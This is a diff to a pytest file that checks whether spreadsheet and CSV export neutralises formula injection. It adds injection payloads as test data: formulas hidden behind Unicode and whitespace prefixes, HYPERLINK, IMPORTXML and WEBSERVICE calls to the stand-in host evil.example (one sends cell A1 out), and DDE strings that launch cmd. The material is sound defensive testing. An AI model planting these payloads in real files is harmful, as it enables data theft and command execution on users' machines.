@@ -29,6 +29,20 @@ FORMULAS = [
     "\n=1+1",
     "＝1+1",
     "＠SUM(A1)",
+    " =1+1",
+    "  \t =1+1",
+    "\u00a0=1+1",
+    "\u200b=1+1",
+    "\ufeff=1+1",
+    "\u202e=1+1",
+    "﹦1+1",
+    "−1+1",
+    '=HYPERLINK("http://evil.example?"&A1,"x")',
+    '=IMPORTXML("http://evil.example","//a")',
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=WEBSERVICE("http://evil.example")',
+    "=DDE('cmd';'/C calc';'x')",
 ]
 
 
@@ -47,7 +61,28 @@ def made(form: str, rows: Sequence[Sequence[Any]]) -> bytes:
 
 @pytest.mark.parametrize("text", FORMULAS)
 def test_file_csv_of_a_formula_shows_it_as_text(text: str) -> None:
-    assert read_csv(made("csv", [[text]]))[1] == ["'" + text]
+    (cell,) = read_csv(made("csv", [[text]]))[1]
+    assert cell.startswith("'")
+    assert cell.replace("'", "") == text.replace("'", "")
+
+
+@pytest.mark.parametrize("separator", [";", "\t", "|"])
+@pytest.mark.parametrize(
+    "text", [f"a{sign}=1+1" for sign in (";", "\t", "|", "\r", "\n", ";\u200b")]
+)
+def test_file_csv_read_with_another_separator_has_no_formula(text: str, separator: str) -> None:
+    body = made("csv", [[1, text, "x"], ["b", {"c": text}, -5]]).decode("utf-8-sig")
+    for line in csv.reader(io.StringIO(body, newline=""), delimiter=separator):
+        for cell in line:
+            assert not cell.lstrip(" \u200b").startswith(("=", "@")), line
+
+
+@pytest.mark.parametrize("number", [Decimal("-12.50"), -3, 1.5, Decimal("1E+3")])
+def test_file_of_a_number_keeps_it_a_number(number: Any) -> None:
+    (cell,) = read_csv(made("csv", [[number]]))[1]
+    assert Decimal(cell) == Decimal(str(number))
+    sheet = load_workbook(io.BytesIO(made("xlsx", [[number]]))).worksheets[0]
+    assert sheet["A2"].data_type == "n"
 
 
 @pytest.mark.parametrize("text", FORMULAS)
